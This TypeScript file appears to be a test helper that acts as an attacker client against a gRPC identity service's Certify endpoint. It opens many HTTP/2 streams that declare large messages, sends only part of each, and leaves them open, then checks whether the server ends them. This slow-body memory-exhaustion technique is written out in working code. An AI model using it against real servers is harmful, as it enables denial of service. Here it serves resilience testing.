/**
 * An unauthenticated client that tries to make a gRPC server hold memory: over `connections`
 * TLS/HTTP/2 connections it opens `streams` Certify calls each, every one declaring a
 * `declaredBytes` message and sending only `sentBytes` of it, then waits. Built on
 * node:http2 as an attacker would, not on a gRPC library. It reports how the server ended
 * each stream, so a test can tell "closed with a status" from "left open".
 */
import { connect, constants, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';

export const CERTIFY_PATH = '/io.linkerd.proxy.identity.Identity/Certify';

export interface HalfSentStreamsOptions {
  address: string;
  connections: number;
  streams: number;
  /** The length the gRPC frame (and content-length) claims. Default 65,000. */
  declaredBytes?: number;
  /** How much of it is sent. Default 60,000. */
  sentBytes?: number;
}

/** How the server ended a stream. */
export interface StreamEnd {
  /** grpc-status from headers or trailers, if any arrived. */
  grpcStatus?: number;
  grpcMessage?: string;
  /** RST_STREAM code the stream closed with (0 = NO_ERROR). */
  rstCode: number;
}

export class HalfSentStreams {
  readonly sessions: ClientHttp2Session[] = [];
  readonly streams: ClientHttp2Stream[] = [];
  readonly ended: StreamEnd[] = [];
  /** Streams the client has opened (the server may have let fewer start). */
  opened = 0;
  sessionsClosed = 0;
  private readonly waiters: (() => void)[] = [];

  constructor(private readonly opts: HalfSentStreamsOptions) {}

  /** Opens every connection and stream and writes the partial bodies. */
  start(): void {
    const declared = this.opts.declaredBytes ?? 65_000;
    const sent = this.opts.sentBytes ?? 60_000;
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(declared, 1);
    const body = Buffer.concat([prefix, Buffer.alloc(Math.max(0, sent - 5), 0x41)]);
    for (let c = 0; c < this.opts.connections; c++) {
      const session = connect(`https://${this.opts.address}`, { rejectUnauthorized: false, peerMaxConcurrentStreams: this.opts.streams, maxSessionMemory: 1_000_000 });
      session.on('error', () => {});
      session.on('close', () => {
        this.sessionsClosed++;
        this.notify();
      });
      this.sessions.push(session);
      for (let s = 0; s < this.opts.streams; s++) this.open(session, body, declared + 5);
    }
  }

  private open(session: ClientHttp2Session, body: Buffer, contentLength: number): void {
    let stream: ClientHttp2Stream;
    try {
      stream = session.request({
        [constants.HTTP2_HEADER_METHOD]: 'POST',
        [constants.HTTP2_HEADER_PATH]: CERTIFY_PATH,
        [constants.HTTP2_HEADER_CONTENT_TYPE]: 'application/grpc',
        [constants.HTTP2_HEADER_CONTENT_LENGTH]: String(contentLength),
        te: 'trailers',
      });
    } catch {
      return; // the session is already gone
    }
    this.opened++;
    this.streams.push(stream);
    const end: StreamEnd = { rstCode: -1 };
    const take = (h: Record<string, unknown>) => {
      if (h['grpc-status'] !== undefined) end.grpcStatus = Number(h['grpc-status']);
      if (h['grpc-message'] !== undefined) end.grpcMessage = decodeURIComponent(String(h['grpc-message']));
    };
    stream.on('response', take);
    stream.on('trailers', take);
    stream.on('error', () => {});
    stream.on('data', () => {});
    stream.on('close', () => {
      end.rstCode = stream.rstCode ?? 0;
      this.ended.push(end);
      this.notify();
    });
    stream.write(body);
  }

  /** Resolves when `predicate` holds, checked whenever a stream or session closes. */
  until(predicate: () => boolean, timeoutMs: number): Promise<void> {
    return new Promise((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`timed out after ${timeoutMs}ms: ${this.summary()}`)), timeoutMs);
      const check = () => {
        if (!predicate()) return void this.waiters.push(check);
        clearTimeout(timer);
        resolve();
      };
      check();
    });
  }

  summary(): string {
    const codes = new Map<string, number>();
    for (const e of this.ended) {
      const k = `status=${e.grpcStatus ?? '-'} rst=${e.rstCode}`;
      codes.set(k, (codes.get(k) ?? 0) + 1);
    }
    return `opened ${this.opened}, ended ${this.ended.length} (${[...codes].map(([k, n]) => `${k}: ${n}`).join(', ')}), sessions closed ${this.sessionsClosed}/${this.sessions.length}`;
  }

  close(): void {
    for (const s of this.sessions) s.destroy();
  }

  private notify(): void {
    const ws = this.waiters.splice(0);
    for (const w of ws) w();
  }
}

/** Resident set size of a process, from /proc (Linux). */
export function rssBytes(pid: number, readFile: (p: string) => string): number {
  const m = /^VmRSS:\s+(\d+) kB/m.exec(readFile(`/proc/${pid}/status`));
  if (!m) throw new Error(`no VmRSS for pid ${pid}`);
  return Number(m[1]) * 1024;
}
